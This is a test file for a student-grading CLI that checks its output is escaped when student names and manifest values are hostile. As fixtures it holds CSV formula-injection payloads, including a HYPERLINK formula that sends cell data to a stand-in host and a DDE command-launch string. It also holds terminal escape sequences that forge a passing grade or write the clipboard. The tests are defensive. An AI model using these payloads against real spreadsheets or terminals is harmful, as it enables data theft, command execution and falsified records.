/** Safe output (#17): names and values students control cannot forge rows, run formulas, reach the terminal raw or break XML. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { csvSafe, termSafe, xmlSafe } from '../../src/cli/safe-text.ts';
import { runCli } from './helpers.ts';

const ex = parse(readFileSync(join(import.meta.dirname, '../../content/exercises/e11.1.yaml'), 'utf8'));
const root = mkdtempSync(join(tmpdir(), 'cc-safe-'));
const cls = join(root, 'class');
const NAMES = [
  '=HYPERLINK("evil.example?"&A1,"open")',
  "@SUM(1+1)*cmd|' -C calc'!A0",
  '+1+1',
  '-2+3',
  'bob\nclass-mallory  10 of 10  ok',
  'x\x1b[2K\x1b[1A\rALL-PASSED\x1b]0;PWNED\x07',
  'clip\x1b]52;c;ZXZpbA==\x07',
  'ctl\x01\uffff',
];
for (const n of NAMES) {
  mkdirSync(join(cls, n), { recursive: true });
  writeFileSync(join(cls, n, 'pod.yaml'), ex.wrong[1].files['pod.yaml']);
}
const hostileManifest = ex.solution['pod.yaml'].replace('name: demo\nspec', 'name: "evil\\x1b]52;c;ZXZpbA==\\x07\\x01\\uffff"\nspec');
mkdirSync(join(cls, 'valerie'));
writeFileSync(join(cls, 'valerie', 'pod.yaml'), hostileManifest);

describe('safe text helpers', () => {
  it('termSafe escapes C0/C1 controls, DEL and bidi overrides', () => {
    expect(termSafe('a\nb\x1b]52;c;x\x07\u009b\u202eZ')).toBe('a\\nb\\x1b]52;c;x\\x07\\x9b\\u202eZ');
  });
  it('csvSafe neutralises formula starts and leaves numbers alone', () => {
    expect(['=1', '+1', '-1', '@A', '\tx', '\rx', 'ok'].map(csvSafe)).toEqual(["'=1", "'+1", "'-1", "'@A", "'\tx", "'\rx", 'ok']);
    expect(csvSafe(-1)).toBe(-1);
  });
  it('xmlSafe replaces what XML 1.0 forbids', () => {
    expect(xmlSafe('a\x01b\uffff\ud800c\u{1f600}\t')).toBe('a\\x01b\\uffff\\ud800c\u{1f600}\t');
  });
});

describe('grade output with hostile names', { timeout: 120_000 }, () => {
  it('the table: one line per submission, no raw control character', async () => {
    const r = await runCli(['grade', '-e', 'e11.1', 'class'], { cwd: root });
    expect(r.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(1 + NAMES.length + 1 + 1);
    expect(lines.some((l) => l.startsWith('class-mallory'))).toBe(false);
    expect(r.stdout).toContain('class/bob\\nclass-mallory  10 of 10  ok');
    expect(r.stdout).toContain('class/clip\\x1b]52;c;ZXZpbA==\\x07');
  });
  it('the CSV: every student cell that could be a formula starts with an apostrophe', async () => {
    const rows = parseCsv((await runCli(['grade', '-e', 'e11.1', '--format', 'csv', '.'], { cwd: cls })).stdout, { columns: true }) as Record<string, string>[];
    for (const row of rows) for (const v of [row.student, row.submission, row.feedback]) expect(v!, JSON.stringify(v)).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((x) => x.student)).toContain(`'=HYPERLINK("evil.example?"&A1,"open")`);
    for (const f of ['canvas', 'moodle']) {
      const cells = (parseCsv((await runCli(['grade', '-e', 'e11.1', '--format', f, '.'], { cwd: cls })).stdout) as string[][]).flat();
      for (const c of cells) expect(c).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
    }
  });
  it('JUnit stays well-formed XML for control characters and U+FFFF in names and manifest values', async () => {
    const x = (await runCli(['grade', '-e', 'e11.1', '--format', 'junit', 'class'], { cwd: root })).stdout;
    expect(XMLValidator.validate(x)).toBe(true);
    expect(x).toContain('class/ctl\\x01\\uffff');
  });
  it("a FIFO in the class folder, or as a student's pod.yaml, is a row with an error, not a hang", async () => {
    const d = join(root, 'fifo');
    mkdirSync(join(d, 'pat'), { recursive: true });
    execFileSync('mkfifo', [join(d, 'top.yaml'), join(d, 'pat', 'pod.yaml')]);
    mkdirSync(join(d, 'quinn'));
    writeFileSync(join(d, 'quinn', 'pod.yaml'), ex.solution['pod.yaml']);
    const r = await runCli(['grade', '-e', 'e11.1', 'fifo'], { cwd: root });
    expect(r.stdout.split('\n').map((l) => l.replace(/ +/g, ' '))).toEqual([
      expect.stringMatching(/^submission score/),
      'fifo/pat 0/10 - - - - - - - pod.yaml is a FIFO (named pipe); not read',
      'fifo/quinn 10/10 ok ok ok ok ok ok ok all checks pass',
      'fifo/top.yaml 0/10 - - - - - - - a FIFO (named pipe); not read',
      'Points 10/30',
      '',
    ]);
  });
});

describe('check output with hostile manifest values', { timeout: 120_000 }, () => {
  const file = join(root, 'class', 'valerie', 'pod.yaml');
  it('text output escapes control sequences', async () => {
    const r = await runCli(['check', file]);
    expect(r.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
  });
  it('JUnit is well-formed and SARIF is valid JSON', async () => {
    expect(XMLValidator.validate((await runCli(['check', '--format', 'junit', file])).stdout)).toBe(true);
    const df = join(root, 'Dockerfile');
    writeFileSync(df, 'FROM \uffff\x01\nRUN echo \x01\n');
    expect(XMLValidator.validate((await runCli(['check', '--format', 'junit', df])).stdout)).toBe(true);
    const sarif = (await runCli(['check', '--format', 'sarif', file, df])).stdout;
    expect(JSON.parse(sarif).version).toBe('2.1.0');
  });
});
